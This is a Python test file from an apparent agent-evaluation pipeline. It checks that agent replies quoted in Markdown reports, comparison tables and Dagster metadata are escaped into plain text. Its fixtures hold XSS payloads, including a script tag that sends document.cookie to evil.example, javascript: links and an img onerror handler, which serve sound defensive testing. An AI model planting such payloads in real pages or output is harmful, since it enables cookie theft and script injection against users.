"""Text an agent wrote, quoted by a report, renders as the text it is: no HTML, no `javascript:` link, no broken
table, no heading of its own. A real usage trial (the replay runner playing a session whose reply is the attack,
through the real server and world), the real scorecard; the synthesis and compare renderers on that text."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from mcp_evals_pipeline.reporting.markdown import md_block, md_code, md_prose, md_text
from mcp_evals_pipeline.reporting.scorecard import render_report
from mcp_evals_pipeline.runs import write_run_file
from mcp_evals_pipeline.sql_models import materialize_models
from mcp_evals_pipeline.store import TrialStore
from mcp_evals_pipeline.trials import TrialSpec, run_trial

from .conftest import TASKS

CASE = "usage-ops-v3-02-restart-by-name"
ATTACK_LINES = [
    "Done.",
    "# Owned heading",
    "<script>fetch('https://evil.example/?c='+document.cookie)</script> | injected | cells |",
    "[click me](javascript:alert(document.domain)) ![x](data:text/html,<b>hi</b>) `code",
]
ATTACK = "\n".join(ATTACK_LINES)
# A tag, or a link/image destination whose `]` is not escaped.
ACTIVE = re.compile(r"<(script|b|img)\b|(?<!\\)\]\((javascript|data):")


def _active(text: str) -> re.Match[str] | None:
    """Active markup outside code spans (inside one, CommonMark renders `<script>` as the text it is)."""
    return ACTIVE.search(re.sub(r"(?<![`\\])(`+)(?!`).*?(?<!`)\1(?!`)", "", text))


def _table_rows_are_whole(report: str) -> None:
    """Every table row has its header's number of cells (an unescaped `|` adds one)."""
    header_cells = 0
    for line in report.splitlines():
        if not line.startswith("|"):
            header_cells = 0
            continue
        cells = len(re.split(r"(?<!\\)\|", line.strip())) - 2
        if not header_cells:
            header_cells = cells
        assert cells == header_cells, line


@pytest.fixture
def attacked_report(tmp_path: Path) -> str:
    session = json.loads((TASKS / CASE / "sessions" / "only-looks.json").read_text())
    (tmp_path / "attack.json").write_text(json.dumps({**session, "reply": ATTACK}))
    store = TrialStore(tmp_path / "evals.duckdb")
    record = run_trial(TrialSpec(task_id=CASE, condition="bare", trial=1, batch_date="2026-12-01", agent="replay",
                                 options={"session": str(tmp_path / "attack.json")}, skip_judge=True),
                       store=store, results_root=tmp_path / "runs")
    assert record.grade.failure_code == "usage.miss"  # so the findings log quotes its reply
    run = write_run_file(tmp_path / "runs" / record.run_id, store)
    with store.connect() as con:
        materialize_models(con)
        return render_report(run.run_id, con)


def test_the_scorecard_quotes_an_agents_reply_inert(attacked_report: str) -> None:
    findings = attacked_report.split("### Findings: every miss and unsafe trial", 1)[1]
    [reply] = [line for line in findings.splitlines() if line.startswith("  - reply: ")]
    assert reply == "  - reply: " + md_text(" / ".join(ATTACK_LINES[-3:]), 400)
    assert not _active(attacked_report), _active(attacked_report)
    assert not any(line.startswith("# Owned") for line in attacked_report.splitlines())
    assert "&lt;script>" in reply and "\\[click me\\](javascript:" in reply and "\\| injected \\|" in reply
    _table_rows_are_whole(attacked_report)


@pytest.mark.parametrize("text", [ATTACK, *ATTACK_LINES, "1. list", "- item", "> quote", "a\\|b"])
def test_md_text_leaves_nothing_active(text: str) -> None:
    quoted = md_text(text)
    assert "\n" not in quoted
    for active in ["<", "](", "`"]:
        assert active not in quoted.replace("\\](", "").replace("\\`", "")
    assert not re.match(r"\s*(#|>|[-+*]\s|\d+[.)](\s|$))", quoted), quoted
    assert not re.search(r"(?<!\\)\|", quoted.replace("\\\\", "")), quoted  # every pipe escaped
    row = f"| a | {quoted} | b |"
    assert len(re.split(r"(?<!\\)\|", row.replace("\\\\", ""))) - 2 == 3


def test_a_memo_keeps_its_code_spans_and_loses_its_html() -> None:
    memo = "The agent read `server.py` and wrote <img src=x onerror=alert(1)> [x](javascript:y) \\`<b>`"
    quoted = md_prose(memo)
    assert quoted.startswith("The agent read `server.py` and wrote &lt;img") and not _active(quoted)
    assert "<img" not in quoted and "<b>" not in quoted


def test_md_code_cannot_be_closed_from_inside() -> None:
    span = md_code("a `` b ` c")
    fence = re.match(r"`+", span)
    assert fence is not None and len(fence.group()) == 3 and span.endswith("`" * 3)
    assert md_code("x|y", in_table=True) == "`x\\|y`"


def test_the_synthesis_keeps_a_models_markdown_but_not_its_html_or_script_links() -> None:
    text = md_block("## Struggles\n- see [memo](trials/x/memo.md) and [evil](javascript:alert(1))\n<script>x</script>")
    assert "## Struggles" in text and "[memo](trials/x/memo.md)" in text
    assert not _active(text)


def test_synthesis_and_compare_tables_quote_stored_text_inert() -> None:
    from mcp_evals_pipeline.synthesis.render import _table

    rows = _table(["check", "example details"], [["call:echo:1", ATTACK]])
    assert not _active("\n".join(rows))
    _table_rows_are_whole("\n".join(rows))
    from mcp_evals_pipeline.reporting.compare import Cell, Comparison, Flip, Lack, Side, TrialChange, render

    failing = f"call:echo:1 {ATTACK}"  # a failing check as an imported run.json may carry it
    comparison = Comparison(
        a=Side.parse("2026-12-01"), b=Side.parse("2026-12-02"), headlines=[],
        flips=[Flip(("build", "t|x", "noskill+blank", "replay"), Cell(valid=1, failing=[failing]), Cell(valid=1,
                                                                                                      passes=1))],
        trial_changes=[TrialChange(("build", "t", "noskill+blank", 1, "replay"), f"fail: {ATTACK}", "pass")],
        new_codes={f"contract.{ATTACK}": 1}, fixed_codes={}, unpaired=[], invalid=(0, 0), graders=("1", "2"),
        lacks=[Lack("a", ("build", "noskill+blank", ATTACK), 1, 1)])  # an agent name as a store may carry it
    text = render(comparison)
    assert not _active(text), _active(text)
    assert not any(line.startswith("# Owned") for line in text.splitlines())
    _table_rows_are_whole(text)


def test_dagster_metadata_shows_what_an_agents_server_answered_as_plain_text(tmp_path: Path) -> None:
    """A build trial whose server answers the attack: the trial's metadata quotes it as text (the UI never renders
    it as markdown), and no markdown metadata of the trial or its check carries it active."""
    import dagster as dg

    from mcp_evals_pipeline.defs.partitions import multi_key, register_trial_keys
    from mcp_evals_pipeline.defs.resources import EvalStore
    from mcp_evals_pipeline.defs.trials.assets import trial
    from mcp_evals_pipeline.defs.trials.checks import trial_rows_are_current
    from mcp_evals_pipeline.trials import trial_key

    task = "py-v4-01-basic-tool-server"
    lines = []
    for line in (TASKS / task / "sessions" / "fail-wrong-sum.jsonl").read_text().splitlines():
        action = json.loads(line)
        if action.get("tool") == "write_file" and action["args"]["path"] == "server.py":
            content = action["args"]["content"].replace("-> int:", "-> str:")
            action["args"]["content"] = content.replace("return a - b", f"return {ATTACK!r}")
        lines.append(json.dumps(action))
    (tmp_path / "attack.jsonl").write_text("\n".join(lines) + "\n")
    key = trial_key(task, "noskill+blank", 1)
    store = EvalStore(database=str(tmp_path / "evals.duckdb"), runs_root=str(tmp_path / "runs"))
    with dg.instance_for_test() as instance:
        register_trial_keys(instance, [key])
        result = dg.materialize([trial, trial_rows_are_current], partition_key=multi_key("2026-11-25", key),
                                instance=instance, resources={"eval_store": store}, run_config={"ops": {"trial": {
                                    "config": {"agent": "replay", "skip_judge": True,
                                               "options": {"session": str(tmp_path / "attack.jsonl")}}}}})
    assert result.success
    [materialization] = result.asset_materializations_for_node("trial")
    failing = materialization.metadata["failing_check"]
    assert isinstance(failing, dg.TextMetadataValue) and "<script>" in failing.value  # verbatim, as text
    checks = [e.event_specific_data for e in result.all_events if e.event_type_value == "ASSET_CHECK_EVALUATION"]
    metadata = [*materialization.metadata.values(), *(v for c in checks for v in c.metadata.values())]  # type: ignore[union-attr]
    assert checks
    for value in metadata:
        if isinstance(value, dg.MarkdownMetadataValue):
            assert not _active(value.md_str) and "# Owned" not in value.md_str.splitlines()
